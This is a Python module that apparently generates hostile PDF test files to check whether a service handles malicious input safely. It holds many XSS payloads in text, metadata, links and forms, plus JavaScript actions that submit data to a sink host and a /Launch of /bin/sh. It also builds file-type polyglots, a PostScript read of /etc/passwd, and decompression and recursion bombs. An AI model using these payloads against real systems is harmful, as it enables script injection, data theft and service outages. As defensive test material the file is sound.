"""Hostile PDFs: files that are two things at once, that grow when they are read, and that bring markup wherever text can be."""
import zlib

from live.pdfs import Pdf, simple, stream, text

# Each sets a mark that the browser's check looks for, or fetches from {sink}, where a server counts.
MARKUP = [
    "<script>window.__run=1</script>",
    "<img src=x onerror=\"window.__run=1\">",
    "\"><svg onload=window.__run=1>",
    "'><iframe srcdoc='<script>parent.__run=1</script>'></iframe>",
    "</title><script>window.__run=1</script>",
    "<img src={sink}/img>",
    "<link rel=stylesheet href={sink}/css>",
    "<meta http-equiv=refresh content='0;url={sink}/refresh'>",
    "<form action={sink}/form><button autofocus onfocus=window.__run=1>",
    "<base href={sink}/>",
    "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__run=1&gt;\">",
    "<template><script>window.__run=1</script></template>",
    "<!--><script>window.__run=1</script>-->",
    "]]><script>window.__run=1</script>",
    "{{constructor.constructor('window.__run=1')()}}",
    "${window.__run=1}",
    "![x]({sink}/markdown) [x](javascript:window.__run=1)",
    "&lt;script&gt;window.__run=1&lt;/script&gt;",
    "\u202e<script>window.__run=1</script>",
    "<details open ontoggle=window.__run=1>",
    "<a href=javascript:window.__run=1 autofocus>click</a>",
    "<style>@import '{sink}/import';*{background:url({sink}/bg)}</style>",
]
ADDRESSES = [
    "javascript:window.__run=1", "JaVaScRiPt:window.__run=1", " javascript:window.__run=1", "java\tscript:window.__run=1", "\x01javascript:window.__run=1",
    "vbscript:msgbox(1)", "data:text/html,<script>opener.__run=1</script>", "file:///etc/passwd", "blob:x", "{sink}/link\"onmouseover=\"window.__run=1",
    "http://x/'><script>window.__run=1</script>", "jar:{sink}!/x", "view-source:{sink}", "//evil.example/x", "\\\\evil.example\\share",
]


def link(address, place):
    return (b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A << /S /URI /URI " % (place, place + 12)) + text(address) + b" >> >>"


def document(sink):
    """One document with every piece of markup in its text, metadata, outline, links, form, attachments, labels and tags."""
    pieces = [piece.replace("{sink}", sink) for piece in MARKUP]
    addresses = [address.replace("{sink}", sink) for address in ADDRESSES]
    pdf = Pdf()
    annotations = [link(address, 740 - 16 * n) for n, address in enumerate(addresses)]
    annotations += [b"<< /Type /Annot /Subtype /Text /Rect [400 700 420 720] /Contents " + text(pieces[0]) + b" /T " + text(pieces[1]) + b" >>"]
    first = pdf.page(["A calm title about rivers", *pieces], annotations)
    second = pdf.page(["# " + pieces[0], "- " + pieces[1], "| " + pieces[2] + " | b |", "1. " + pieces[3], "```" + pieces[4]])
    pdf.info = [b"/Title " + text(pieces[4]), b"/Author " + text(pieces[0]), b"/Subject " + text(pieces[1]), b"/Keywords " + text(pieces[2]),
                b"/Creator " + text(pieces[3]), b"/Producer " + text(pieces[2])]
    items = [pdf.add(b"") for _ in pieces]
    outline = pdf.add(b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count %d >>" % (items[0], items[-1], len(items)))
    for n, (item, piece) in enumerate(zip(items, pieces)):
        near = (b" /Prev %d 0 R" % items[n - 1] if n else b"") + (b" /Next %d 0 R" % items[n + 1] if n + 1 < len(items) else b"")
        pdf.objects[item] = b"<< /Title " + text(piece) + b" /Parent %d 0 R /Dest [%d 0 R /Fit]" % (outline, first) + near + b" >>"
    fields = [pdf.add(b"<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [72 %d 300 %d] /T " % (100 + 14 * n, 112 + 14 * n) + text(piece) + b" /TU " + text(piece) +
                      b" /V " + text(piece) + b" >>") for n, piece in enumerate(pieces[:6])]
    attached = pdf.add(stream(b"/Type /EmbeddedFile", pieces[0].encode()))
    named = pdf.add(b"<< /Type /Filespec /F " + text(pieces[1]) + b" /UF " + text(pieces[1]) + b" /Desc " + text(pieces[0]) + b" /EF << /F %d 0 R >> >>" % attached)
    # As in a report about another system: markup in XMP, which viewers and catalogues show.
    packet = ("<?xpacket begin='' id='x'?><x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
              "<rdf:Description rdf:about='' xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title><rdf:Alt><rdf:li xml:lang='x-default'>"
              "&lt;script&gt;window.__run=1&lt;/script&gt;</rdf:li></rdf:Alt></dc:title><dc:creator><rdf:Seq><rdf:li><![CDATA[" + pieces[1] + "]]></rdf:li></rdf:Seq>"
              "</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end='w'?>")
    pdf.catalogue.append(b"/Metadata %d 0 R" % pdf.add(stream(b"/Type /Metadata /Subtype /XML", packet.encode())))
    pdf.catalogue += [
        b"/Outlines %d 0 R" % outline, b"/PageMode /UseOutlines", b"/Lang " + text("en\"><script>window.__run=1</script>"),
        b"/AcroForm << /Fields [" + b" ".join(b"%d 0 R" % field for field in fields) + b"] /NeedAppearances true >>",
        b"/PageLabels << /Nums [0 << /S /D /P " + text(pieces[0]) + b" >>] >>",
        b"/OpenAction << /S /JavaScript /JS " + text("app.alert(1); app.launchURL('" + sink + "/js')") + b" >>",
        b"/AA << /WC << /S /Launch /F (/bin/sh) >> >>",
        b"/Names << /EmbeddedFiles << /Names [" + text(pieces[0]) + b" %d 0 R] >> /JavaScript << /Names [(x) << /S /JavaScript /JS " % named +
        text("this.submitForm('" + sink + "/submit')") + b" >>] >> >>",
    ]
    pdf.objects[second] = pdf.objects[second].replace(b"/Type /Page ", b"/Type /Page /AA << /O << /S /SubmitForm /F " + text(sink + "/form") + b" >> >> ")
    pdf.objects[first] = pdf.objects[first].replace(b"/Type /Page ", b"/Type /Page /AA << /O << /S /GoToR /F " + text(sink + "/goto.pdf") + b" /D [0 /Fit] >> >> ")
    return pdf.bytes()


def external_streams(sink):
    """A page whose contents, picture and font are said to be in files elsewhere."""
    pdf = Pdf()
    pdf.page(["A page with contents elsewhere"])
    elsewhere = b"<< /FS /URL /F " + text(sink + "/stream") + b" >>"
    pdf.objects[pdf.pages[0] - 1] = b"<< /F " + elsewhere + b" /Length 0 >>\nstream\n\nendstream"
    return pdf.bytes()


# -- two things at once -----------------------------------------------------------------------

def polyglots():
    """Name -> bytes, and whether they may be accepted (as a PDF and as nothing else)."""
    pdf = simple("A page that is also something else")
    page = b"<html><script>window.__run=1</script></html>\n"
    archive = (b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\x86\xa6\x106\x05\0\0\0\x05\0\0\0\x05\0\0\0a.txthelloPK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0\x86\xa6\x106\x05\0\0\0\x05\0\0\0"
               b"\x05\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0a.txtPK\x05\x06\0\0\0\0\x01\0\x01\x003\0\0\0(\0\0\0\0\0")
    return {
        "HTML before the PDF": (page + pdf, False),
        "a GIF before the PDF": (b"GIF89a/*\x01\0\x01\0" + pdf, False),
        "a JPEG before the PDF": (b"\xff\xd8\xff\xe0" + bytes(16) + pdf, False),
        "a script before the PDF": (b"#!/bin/sh\necho run\nexit\n" + pdf, False),
        "a program before the PDF": (b"\x7fELF" + bytes(60) + pdf, True),
        "a ZIP before the PDF": (archive + pdf, False),
        "a ZIP after the PDF": (pdf + archive, True),
        "HTML after the PDF": (pdf + page, True),
        "HTML in the first comment": (pdf.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + page, 1), True),
        "JavaScript that is a PDF": (pdf.replace(b"%PDF-1.7\n", b"%PDF-1.7\n1/*\n*/;window.__run=1//\n", 1), True),
        "HTML alone": (page, False),
        "a ZIP alone": (archive, False),
        "PostScript": (b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", False),
        "SVG": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.__run=1</script></svg>", False),
        "the first bytes alone": (b"%PDF-1.7\n" + page, True),
    }


# -- what grows -------------------------------------------------------------------------------

def bombs():
    """Name -> bytes: small files that want much time, memory, output or depth."""
    made = {}
    pdf = Pdf()
    pdf.page([], content=b"")
    packed = zlib.compress(b"q Q " * 70_000_000, 6)
    pdf.objects[pdf.pages[0] - 1] = stream(b"/Filter /FlateDecode", packed)
    made["a stream of 280 MB"] = pdf.bytes()

    pdf = Pdf()
    pdf.page(["A very large page"], box=b"0 0 200000 200000")
    made["a page of 200,000 points"] = pdf.bytes()

    pdf = Pdf()
    pixels = zlib.compress(bytes(30000 // 8 * 33334), 6)
    picture = pdf.add(stream(b"/Type /XObject /Subtype /Image /Width 30000 /Height 33334 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode", pixels))
    page = pdf.page([], content=b"q 500 0 0 700 40 40 cm /I Do Q")
    pdf.objects[page] = pdf.objects[page].replace(b"/Resources << ", b"/Resources << /XObject << /I %d 0 R >> " % picture)
    made["a picture of a thousand million pixels"] = pdf.bytes()

    pdf = Pdf()
    pdf.page(["A tree that is its own child"])
    body = pdf.bytes()
    made["a page tree that bites its tail"] = body.replace(b"/Count 1 /Kids [", b"/Count 1 /Kids [2 0 R ")

    pdf = Pdf()
    pdf.page(["Deep"])
    pdf.add(b"[" * 200_000 + b"]" * 200_000)
    pdf.catalogue.append(b"/Deep %d 0 R" % len(pdf.objects))
    made["arrays 200,000 deep"] = pdf.bytes()

    pdf = Pdf()
    pdf.page(["Many objects"])
    for _ in range(150_000):
        pdf.add(b"null")
    made["150,000 objects"] = pdf.bytes()

    whole = simple("A table that leads to itself")
    place = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    made["a cross-reference table that leads to itself"] = whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)

    pdf = Pdf()
    page = pdf.page([], content=b"/X Do")
    form = pdf.add(b"")
    pdf.objects[form] = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X %d 0 R >> >>" % form, b"/X Do /X Do")
    pdf.objects[page] = pdf.objects[page].replace(b"/Resources << ", b"/Resources << /XObject << /X %d 0 R >> " % form)
    made["a form that paints itself"] = pdf.bytes()
    return made


